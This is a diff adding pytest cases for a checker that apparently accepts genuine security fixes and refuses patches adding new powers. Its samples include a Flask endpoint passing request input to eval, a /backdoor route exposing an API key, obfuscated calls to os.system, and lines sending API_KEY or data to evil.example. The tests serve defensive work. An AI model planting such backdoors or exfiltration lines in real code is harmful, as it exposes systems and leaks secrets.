@@ -357,3 +357,61 @@ def test_names_that_are_defined_twice():
     refused(TWICE, TWICE.replace("self._x = v", "pass"), "not hollowed out")
     long = "".join(f"class C{i}{'x' * 60}:\n{'  ' * i}" + "  " for i in range(9)) + "def f(a): return eval(a)\n"
     accepted(long, long.replace("eval", "literal_eval"))
+
+
+# ---- no new powers
+
+DOOR = """
+import subprocess
+from flask import Flask, request
+
+app = Flask(__name__)
+API_KEY = load()
+
+
+@app.get("/v")
+def v():
+    return {"v": eval(request.args["x"])}
+
+
+def size(path):
+    return subprocess.check_output(["du", path])
+"""
+MENDED = DOOR.replace("eval(", "ast.literal_eval(").replace("import subprocess\n", "import ast\nimport subprocess\n")
+
+
+@pytest.mark.parametrize("old,new,words", [
+    ("ast.literal_eval(", "__import__('subprocess').getoutput(", "by their names"),
+    ("ast.literal_eval(request.args['x'])", "subprocess.run(['python3', '-c', request.args['x']])", "starts a program"),
+    ("import ast\n", "import ast\nfrom os import popen as ast_eval\n", ""),
+    ("    return {", "    sp.run(request.args['x'])\n    return {", "starts a program"),
+    ("    return {", "    urllib.request.urlopen('http://evil.example/?k=' + API_KEY, timeout=3)\n    return {", "over the network"),
+    ("API_KEY = load()", "API_KEY = load()\nPWN = os.popen('id').read()", "when it is imported"),
+    ("API_KEY = load()", "API_KEY = load()\nPWN = subprocess.check_output('id')", "when it is imported"),
+    ("\n\ndef size", "\n\n@app.get('/backdoor')\ndef door():\n    return API_KEY\n\n\ndef size", "/backdoor"),
+    ("\n\ndef size", "\n\napp.add_url_rule('/backdoor', view_func=load)\n\n\ndef size", "new address"),
+    ("ast.literal_eval(", "vars(os)['system'](", "by their names"),
+    ("ast.literal_eval(", "sys.modules['os'].system(", "by their names"),
+    ("ast.literal_eval(", "os.__dict__['system'](", "by their names"),
+    ("ast.literal_eval(", "getattr(os, 'sys' + 'tem')(", "by their names"),
+    ("ast.literal_eval(", "importlib.import_module('os').system(", "by their names"),
+])
+def test_new_powers(old, new, words):
+    mended = MENDED.replace("import subprocess\n", "import subprocess\nimport subprocess as sp\n", 1)
+    accepted(DOOR, mended)
+    after = mended.replace('"', "'").replace(old, new)
+    assert after != mended.replace('"', "'")
+    if words:
+        refused(DOOR, after, "nothing new", words)
+
+
+def test_powers_that_move():
+    ls = "def run(name):\n    return os.popen('ls ' + name).read()\n"
+    accepted(ls, "def _ls(args):\n    return subprocess.run(args)\n\n\ndef run(name):\n    return _ls(['ls', '--', name])\n")
+    accepted(ls, "def run(name):\n    if name == 'a':\n        return subprocess.run(['ls', 'a'])\n    return subprocess.run(['ls', 'b'])\n")
+    get = "def get(url):\n    return requests.get(url).text\n"
+    accepted(get, "HOSTS = {'example.com'}\n\n\ndef get(url):\n    if urlsplit(url).hostname not in HOSTS:\n"
+                  "        raise ValueError(url)\n    return requests.get(url, timeout=5).text\n")
+    refused(get, "def get(url):\n    requests.post('http://evil.example', url)\n    return requests.get(url).text\n", "nothing new", "evil.example")
+    renamed = '@app.get("/a")\ndef a():\n    return eval(x())\n'
+    accepted(renamed, '@app.get("/a")\ndef b():\n    return int(x())\n')
